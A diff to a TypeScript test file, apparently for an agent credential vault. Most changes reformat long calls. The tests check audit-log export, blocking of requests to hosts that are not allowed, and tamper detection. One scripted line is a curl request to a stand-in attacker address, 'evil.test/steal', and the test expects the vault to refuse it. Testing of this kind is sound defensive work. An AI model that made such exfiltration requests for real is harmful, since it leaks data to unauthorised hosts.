@@ -21,7 +21,11 @@ const { cleanups, outputs } = scene;
 let H: TempHome;
 let U: Upstream;
 let ENV: Record<string, string>;
-const { av, ok } = recordingCli(() => H, () => ENV, outputs);
+const { av, ok } = recordingCli(
+  () => H,
+  () => ENV,
+  outputs,
+);
 
 interface Exported {
   seq: number;
@@ -39,7 +43,10 @@ interface Exported {
 
 async function exported(args: string[] = []): Promise<Exported[]> {
   const r = await ok(["audit", "export", "--json", ...args]);
-  return r.stdout.split("\n").filter(Boolean).map((l) => JSON.parse(l) as Exported);
+  return r.stdout
+    .split("\n")
+    .filter(Boolean)
+    .map((l) => JSON.parse(l) as Exported);
 }
 
 beforeAll(async () => {
@@ -50,14 +57,26 @@ beforeAll(async () => {
     AGENT_VAULT_UPSTREAM_CA: U.caFile,
     AGENT_VAULT_AUDIT_ANCHOR_MS: "300",
   };
-  await addBearerService(recordingCli(() => H, () => ENV, outputs), SECRET, "api.svc.test");
+  await addBearerService(
+    recordingCli(
+      () => H,
+      () => ENV,
+      outputs,
+    ),
+    SECRET,
+    "api.svc.test",
+  );
   await ok(["vault", "settings", "--unmatched", "deny"]);
   await startServer(H, ENV, cleanups);
 }, 60_000);
 
 describe("a real run's decisions", () => {
   test("requests let through and refused, the run's session, its proposal, a grant and credential changes are on file; no value is", async () => {
-    const proposal = JSON.stringify({ services: [{ action: "set", name: "stripe", host: "api.stripe.test", auth: { type: "bearer", token: "STRIPE_KEY" } }], credentials: [{ action: "set", key: "STRIPE_KEY" }], message: "need stripe" });
+    const proposal = JSON.stringify({
+      services: [{ action: "set", name: "stripe", host: "api.stripe.test", auth: { type: "bearer", token: "STRIPE_KEY" } }],
+      credentials: [{ action: "set", key: "STRIPE_KEY" }],
+      message: "need stripe",
+    });
     const script = [
       'curl -s -o /dev/null -w "%{http_code} " https://api.svc.test/v1/ok',
       'curl -s -o /dev/null -w "%{http_code}" https://evil.test/steal || true',
@@ -72,10 +91,14 @@ describe("a real run's decisions", () => {
     await ok(["agent", "grant", "bot", "--service", "svc"]);
 
     // The server appends its request records about once a second.
-    const records = await waitUntil("the run's requests in the audit log", async () => {
-      const all = await exported();
-      return all.some((x) => x.kind === "request_blocked") ? all : null;
-    }, 15_000);
+    const records = await waitUntil(
+      "the run's requests in the audit log",
+      async () => {
+        const all = await exported();
+        return all.some((x) => x.kind === "request_blocked") ? all : null;
+      },
+      15_000,
+    );
     expect(records.map((x) => x.seq)).toEqual(records.map((_, i) => i + 1));
     expect(records.find((x) => x.kind === "request_allowed")).toMatchObject({ host: "api.svc.test", code: null });
     expect(records.find((x) => x.kind === "request_blocked")).toMatchObject({ host: "evil.test", code: "host_not_allowed" });
@@ -101,11 +124,15 @@ describe("a real run's decisions", () => {
 
 describe("audit verify", () => {
   test("exits 0 on the intact log, 1 naming the record once a line is changed, 0 when it is put back", async () => {
-    await waitUntil("the anchor to reach the last record", async () => {
-      const r = await av(["audit", "verify", "--json"]);
-      const report = JSON.parse(r.stdout) as { ok: boolean; unanchored: number };
-      return report.ok && report.unanchored === 0 ? true : null;
-    }, 10_000);
+    await waitUntil(
+      "the anchor to reach the last record",
+      async () => {
+        const r = await av(["audit", "verify", "--json"]);
+        const report = JSON.parse(r.stdout) as { ok: boolean; unanchored: number };
+        return report.ok && report.unanchored === 0 ? true : null;
+      },
+      10_000,
+    );
     const good = await ok(["audit", "verify"]);
     expect(good.stdout).toMatch(/^audit log ok: \d+ records, anchored up to record \d+/);
 
